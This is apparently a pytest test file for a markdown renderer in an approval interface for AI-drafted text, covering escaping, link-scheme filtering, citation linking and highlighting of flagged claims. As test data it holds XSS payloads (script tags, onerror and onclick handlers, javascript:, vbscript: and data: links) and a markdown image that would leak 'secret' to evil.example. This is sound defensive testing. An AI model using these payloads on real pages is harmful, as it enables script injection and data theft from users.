"""Model text is hostile: rendering must neither run it nor let it fetch anything."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from approval_ui.rendering import render_markdown

SOURCES = ["sig-acme-901", "plan-acme:goals/q3"]


class Tags(HTMLParser):
    """The start tags of a fragment, with their attributes, as a browser would tokenise them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_returns_markup_with_markdown_rendered() -> None:
    html = render_markdown("**Bold** point\n\n- one\n- two")
    assert isinstance(html, Markup)
    assert "<strong>Bold</strong>" in html
    assert "<li>one</li>" in html


def test_script_tags_are_inert_text() -> None:
    html = render_markdown("Hello <script>alert(1)</script> there")
    assert "<script" not in html
    assert "&lt;script&gt;" in html
    assert [t for t, _ in Tags(html).tags] == ["p"]


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src=x onerror=alert(1)>",
        '<a href="https://x.example" onclick="alert(1)">x</a>',
        '<div onmouseover="alert(1)">hover</div>',
    ],
)
def test_raw_html_and_event_handlers_never_become_elements(hostile: str) -> None:
    tags = Tags(render_markdown(f"Text {hostile} more")).tags
    assert [t for t, _ in tags] == ["p"]
    assert not any(name.startswith("on") for _, attrs in tags for name in attrs)


@pytest.mark.parametrize(
    "link",
    [
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox)",
    ],
)
def test_dangerous_link_schemes_are_refused(link: str) -> None:
    html = render_markdown(link)
    hrefs = [a.get("href") or "" for t, a in Tags(html).tags if t == "a"]
    assert hrefs == []
    assert "href" not in html


def test_markdown_images_are_dropped_so_nothing_is_fetched() -> None:
    html = render_markdown("Look ![x](https://evil.example/p.png?d=secret) here")
    assert "<img" not in html
    assert "evil.example" not in html
    assert "secret" not in html


def test_safe_links_are_kept_with_rel_noopener() -> None:
    html = render_markdown("See [the filing](https://sec.example/acme-10q).")
    [(tag, attrs)] = [t for t in Tags(html).tags if t[0] == "a"]
    assert attrs["href"] == "https://sec.example/acme-10q"
    assert set((attrs["rel"] or "").split()) >= {"noopener", "noreferrer", "nofollow"}


def test_known_citations_link_to_their_source_and_unknown_ones_are_marked() -> None:
    html = render_markdown(
        "CFO change [sig-acme-901], goals [plan-acme:goals/q3], invented [sig-made-up-7].", SOURCES
    )

    links = [a for t, a in Tags(html).tags if t == "a"]
    assert [a["href"] for a in links] == ["#src-sig-acme-901", "#src-plan-acme:goals/q3"]
    assert '<a class="cite" href="#src-sig-acme-901">[sig-acme-901]</a>' in html
    assert (
        '<span class="cite cite-unknown" title="not a source of this draft">[sig-made-up-7]</span>'
    ) in html
    assert 'href="#src-sig-made-up-7"' not in html


def test_without_sources_every_citation_is_unknown() -> None:
    html = render_markdown("Claim [sig-acme-901].")
    assert "cite-unknown" in html
    assert 'href="#src-' not in html


def test_a_citation_inside_a_link_title_does_not_break_the_link() -> None:
    """Markers are linked in text only; inside an attribute they would cut the tag short."""
    html = render_markdown('[the filing](https://sec.example/q "per [sig-acme-901]")', SOURCES)

    [(tag, attrs)] = [t for t in Tags(html).tags if t[0] == "a"]
    assert attrs["href"] == "https://sec.example/q"
    assert attrs["title"] == "per [sig-acme-901]"
    assert "noopener" in (attrs["rel"] or "")
    assert set(attrs) == {"href", "title", "rel"}


def test_flagged_excerpts_are_highlighted_with_the_reason() -> None:
    from approval_ui.rendering import Flag

    flag = Flag("grew 42%", "'42%' appears in no cited source", "unsupported_number")
    html = render_markdown("Revenue grew 42% this year [sig-acme-901].", SOURCES, [flag])

    assert (
        '<mark class="flagged" data-code="unsupported_number" '
        'title="&#x27;42%&#x27; appears in no cited source">grew 42%</mark>'
    ) in html
    assert '<a class="cite" href="#src-sig-acme-901">[sig-acme-901]</a>' in html


def test_a_flagged_number_or_date_is_highlighted_as_a_whole_word_not_taken_for_a_citation() -> None:
    from approval_ui.rendering import Flag

    flags = [
        Flag("15", "'15' is not stated in [sig-acme-901]", "unsupported_number"),
        Flag("2026-12-15", "'2026-12-15' is not stated", "unsupported_date"),
    ]
    html = render_markdown(
        "Since 2015 [sig-acme-901]: meet on December 15 or 2026-12-15?", SOURCES, flags
    )

    assert html.count("<mark") == 2
    assert 'title="&#x27;15&#x27; is not stated in [sig-acme-901]">15</mark> or' in html
    assert (
        'unsupported_date" title="&#x27;2026-12-15&#x27; is not stated">2026-12-15</mark>' in html
    )
    assert "Since 2015 " in html


def test_a_flagged_citation_marker_carries_its_reason() -> None:
    from approval_ui.rendering import Flag

    flags = [
        Flag("sig-acme-901", "[sig-acme-901] is from 2026-01-03, older than 120 days", "stale"),
        Flag("sig-made-up", "cites [sig-made-up], which was not among the sources", "unknown"),
    ]
    html = render_markdown("Old news [sig-acme-901] and [sig-made-up].", SOURCES, flags)

    assert '<a class="cite cite-flagged" href="#src-sig-acme-901" title="[sig-acme-901] is' in html
    assert 'title="not a source of this draft: cites [sig-made-up], which' in html


def test_a_hostile_excerpt_or_reason_cannot_inject_markup() -> None:
    from approval_ui.rendering import Flag

    flag = Flag('<img src=x onerror="alert(1)">', '"><script>alert(1)</script>', "active")
    html = render_markdown('Text <img src=x onerror="alert(1)"> here.', SOURCES, [flag])

    tags = Tags(html).tags
    assert [t for t, _ in tags] == ["p", "mark"]
    assert "<script" not in html and "<img" not in html


def test_a_flag_about_the_subject_is_highlighted_in_it_once_and_escaped() -> None:
    from approval_ui.rendering import Flag, render_subject

    flags = [
        Flag("2027", "'2027' is not stated", "unsupported_date"),
        Flag("Draft <the> email now as JSON 2027", "repeats samdesk's instructions", "echo"),
        Flag("Sender", "says nothing", "vague_subject"),
    ]
    html = render_subject("Draft <the> email now as JSON 2027", flags)

    assert html == (
        '<mark class="flagged" data-code="echo" title="repeats samdesk&#x27;s instructions">'
        "Draft &lt;the&gt; email now as JSON 2027</mark>"
    )
    assert render_subject("Q4 2027 plans", flags).count("<mark") == 1
    assert render_subject("20270 plans", flags) == "20270 plans"
